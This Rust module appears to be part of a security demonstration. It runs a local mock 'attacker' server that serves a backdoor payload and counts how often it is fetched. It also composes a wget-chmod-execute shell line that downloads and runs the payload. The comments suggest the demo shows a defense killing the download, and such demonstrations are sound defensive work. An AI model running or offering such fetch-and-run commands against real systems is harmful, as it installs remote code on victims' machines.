//! The attacker's web server: it has the backdoor, and counts how often it was fetched.

use std::{
    io::{BufRead, BufReader, Write},
    net::{TcpListener, TcpStream},
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering},
    },
    thread,
    time::Duration,
};

use anyhow::{Context, Result};

/// It ends with the demo.
pub(super) struct Attacker {
    port: u16,
    downloads: Arc<AtomicU64>,
}

impl Attacker {
    /// # Errors
    ///
    /// Where no port can be had.
    pub(super) fn start(backdoor: Vec<u8>) -> Result<Self> {
        let listener = TcpListener::bind("127.0.0.1:0").context("cannot start the attacker's server")?;
        let port = listener
            .local_addr()
            .context("cannot start the attacker's server")?
            .port();
        let downloads = Arc::new(AtomicU64::new(0));
        let counter = Arc::clone(&downloads);
        thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                counter.fetch_add(1, Ordering::Relaxed);
                // Whoever hung up was killed: that is what the demo is about.
                let _ = serve(stream, &backdoor);
            }
        });
        Ok(Self { port, downloads })
    }

    /// The attack of the walkthrough, as one line for a shell.
    pub(super) fn line(&self) -> String {
        format!(
            "wget -q {} -O /tmp/backdoor && chmod +x /tmp/backdoor && /tmp/backdoor",
            self.url()
        )
    }

    /// Of the backdoor.
    pub(super) fn url(&self) -> String {
        format!("http://127.0.0.1:{}/backdoor", self.port)
    }

    /// How often somebody connected.
    pub(super) fn downloads(&self) -> u64 {
        self.downloads.load(Ordering::Relaxed)
    }
}

fn serve(stream: TcpStream, content: &[u8]) -> std::io::Result<()> {
    stream.set_read_timeout(Some(Duration::from_secs(5)))?;
    let mut reader = BufReader::new(&stream);
    let mut line = String::new();
    while reader.read_line(&mut line)? > 2 {
        line.clear();
    }
    let mut stream = &stream;
    write!(stream, "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n", content.len())?;
    stream.write_all(content)
}
